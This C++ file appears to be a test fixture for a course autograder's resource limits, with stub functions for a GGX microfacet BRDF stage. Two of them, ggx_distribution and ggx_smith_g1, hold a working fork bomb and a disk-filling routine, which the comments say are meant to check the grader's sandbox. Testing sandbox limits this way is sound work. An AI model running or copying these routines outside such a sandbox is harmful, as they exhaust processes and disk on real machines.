// For tests/tools/check_gradescope.sh, Gradescope's limits: stage 10 as the stub, but
// ggx_distribution starts a fork bomb on its first call (every process forks for as long as it
// can, then waits) and ggx_smith_g1 tries to fill the disk (files of 64 MiB in every folder it
// may find writable, until one fails; at most 1 GiB a folder). Both return 0. The stage server's
// process limit, its sandbox and its end hold them: stage 10 loses its tests, nothing else does,
// no file is left, and results.json is written.
#include "raylab/error.h"
#include "raylab/stages/10_microfacet.h"

#include <unistd.h>

#include <cstdio>
#include <string>
#include <vector>

namespace raylab {

// RETURN GGX's D(h) = alpha^2 / (pi ((alpha^2 - 1) cos^2(theta_h) + 1)^2), cos(theta_h) =
// half_vector.z; 0 when half_vector.z <= 0. Handout section 2 (check: at h = (0, 0, 1) it is
// 1 / (pi alpha^2)).
float ggx_distribution(const glm::vec3& half_vector, float alpha) {
  (void)half_vector;
  (void)alpha;
  static bool attacked = false;
  if (!attacked) {
    attacked = true;
    if (::fork() == 0)
      for (;;)
        if (::fork() < 0) ::pause();  // at the process limit: wait to be killed
  }
  return 0.0f;
}

// RETURN Smith's masking G1(v) = 2 / (1 + sqrt(1 + alpha^2 tan^2(theta_v))), tan^2 = (1 - cos^2) /
// cos^2 with cos = direction.z; 1 along the normal, 0 when direction.z <= 0. Handout section 3.
float ggx_smith_g1(const glm::vec3& direction, float alpha) {
  (void)direction;
  (void)alpha;
  static bool attacked = false;
  if (!attacked) {
    attacked = true;
    const std::vector<char> chunk(std::size_t{1} << 20, 'x');
    for (const char* folder : {"/tmp", "/var/tmp", "/dev/shm", ".", "/autograder/results"}) {
      for (int file = 0; file < 16; ++file) {  // at most 1 GiB a folder
        const std::string path = std::string(folder) + "/fill-" + std::to_string(::getpid()) + "-" + std::to_string(file);
        std::FILE* out = std::fopen(path.c_str(), "wb");
        if (!out) break;
        bool full = false;
        for (int mib = 0; mib < 64 && !full; ++mib) full = std::fwrite(chunk.data(), 1, chunk.size(), out) != chunk.size();
        full = std::fclose(out) != 0 || full;
        if (full) break;
      }
    }
  }
  return 0.0f;
}

// RETURN f(wo, wi) = D(h) G1(wo) G1(wi) F / (4 wo.z wi.z) with h = normalize(wo + wi) and
// Schlick's F = specular_color + (1 - specular_color) (1 - dot(wi, h))^5 (per channel); 0 (all
// channels) unless wo.z > 0 and wi.z > 0. Use your two functions above. Handout section 4.
glm::vec3 microfacet_f(const glm::vec3& wo, const glm::vec3& wi, float alpha, const glm::vec3& specular_color) {
  (void)wo;
  (void)wi;
  (void)alpha;
  (void)specular_color;
  throw NotImplemented("microfacet_f");
}

// RETURN a unit half vector with z > 0 whose density (per steradian) is D(h) cos(theta_h): the
// inversion method of stage 07 on GGX (handout section 5 derives tan^2(theta_h) from one number
// and phi from the other).
glm::vec3 sample_ggx_half_vector(glm::vec2 uniform_random, float alpha) {
  (void)uniform_random;
  (void)alpha;
  // Delete the line below when you write the function (handout section 5).
  throw NotImplemented("sample_ggx_half_vector");
}

// RETURN the density of sample_ggx_half_vector's half vectors at `half_vector` (unit, local
// frame), per steradian: D(h) cos(theta_h); 0 when half_vector.z <= 0.
float ggx_half_vector_pdf(const glm::vec3& half_vector, float alpha) {
  (void)half_vector;
  (void)alpha;
  throw NotImplemented("ggx_half_vector_pdf");
}

// RETURN wi = 2 dot(wo, h) h - wo, wo mirrored about a half vector h from
// sample_ggx_half_vector(uniform_random, alpha). wo.z > 0. Return wi even when it is below the
// surface: the framework then has no sample. Handout section 6.
glm::vec3 sample_microfacet_wi(const glm::vec3& wo, glm::vec2 uniform_random, float alpha) {
  (void)wo;
  (void)uniform_random;
  (void)alpha;
  throw NotImplemented("sample_microfacet_wi");
}

// RETURN the density (per steradian) with which sample_microfacet_wi gives wi:
// ggx_half_vector_pdf(h, alpha) / (4 |dot(wo, h)|), h = normalize(wo + wi); 0 unless wo.z > 0
// and wi.z > 0. Handout section 6 shows where the 4 comes from.
float microfacet_pdf(const glm::vec3& wo, const glm::vec3& wi, float alpha) {
  (void)wo;
  (void)wi;
  (void)alpha;
  throw NotImplemented("microfacet_pdf");
}

}  // namespace raylab
